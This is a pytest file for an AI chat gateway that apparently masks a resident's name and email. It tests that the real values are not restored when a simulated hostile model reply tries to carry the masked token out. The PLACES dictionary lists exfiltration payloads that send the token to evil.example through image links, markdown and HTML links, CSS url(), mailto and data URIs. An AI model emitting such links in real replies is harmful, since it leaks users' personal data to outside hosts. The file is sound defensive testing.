"""A reply that tries to carry real values out: whatever the model writes, they stay out of links and foreign tools."""

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import openai
import pytest

from tests.support.capture import Body, Capture, Reply
from tests.support.gateway import Gateway

NAME = "Margaret Okafor"
EMAIL = "margaret.okafor@mail.example"
LETTER = f"Please draft a short letter to {NAME} ({EMAIL}) about her missed bin collection."
PLACES = {
    "image link": "![x](https://evil.example/p.png?d={token})",
    "markdown link": "Read [this page](https://evil.example/{token}/a 'title') now.",
    "markdown link in angle brackets": "[here](<https://evil.example/?q={token}>)",
    "nested brackets": "[a [b] c](https://evil.example/?q=({token}))",
    "reference definition": "See [case][1].\n\n[1]: https://evil.example/?who={token}",
    "autolink": "<https://evil.example/{token}>",
    "bare address": "Go to https://evil.example/?q={token}&x=1 today",
    "attribute": '<img src="https://evil.example/{token}" alt="{token}">',
    "unquoted attribute": "<a href=https://evil.example/{token}>x</a>",
    "style": '<p style="background:url(https://evil.example/{token})">hello</p>',
    "mail link": "[write](mailto:x@evil.example?subject={token})",
    "data address": "![x](data:text/html,{token})",
    "encoded": "https://evil.example/?q=%22{token}%22",
}


def hostile(template: str) -> Callable[[Body], Reply]:
    def answer(body: Body) -> Reply:
        token = re.search(r"EMAIL_[0-9A-Z]{8}", json.dumps(body["messages"]))
        assert token
        text = template.replace("{token}", token[0])
        return Reply(pieces=[text[at : at + 3] for at in range(0, len(text), 3)])

    return answer


@pytest.fixture
def client(gateway: Gateway, key: str) -> Iterator[openai.OpenAI]:
    with openai.OpenAI(base_url=gateway.base_url, api_key=key, max_retries=0) as made:
        yield made


def answer_to(client: openai.OpenAI, *, stream: bool, **more: Any) -> str:
    reply: Any = client.chat.completions.create(
        model="council-assistant", messages=[{"role": "user", "content": LETTER}], stream=stream, **more
    )
    if not stream:
        return reply.choices[0].message.content or ""
    return "".join(choice.delta.content or "" for chunk in reply for choice in chunk.choices)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("place", PLACES)
def test_no_value_in_a_link(client: openai.OpenAI, capture: Capture, place: str, stream: bool) -> None:
    capture.answer = hostile(PLACES[place])
    text = answer_to(client, stream=stream)
    assert "evil.example" in text or "data:" in text
    assert EMAIL not in text
    assert "margaret" not in text.lower()


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_the_same_value_is_restored_in_prose(client: openai.OpenAI, capture: Capture, stream: bool) -> None:
    capture.answer = hostile("Her address is {token}. See https://council.example/{token} too.")
    text = answer_to(client, stream=stream)
    assert f"Her address is {EMAIL}. See https://council.example/EMAIL_" in text
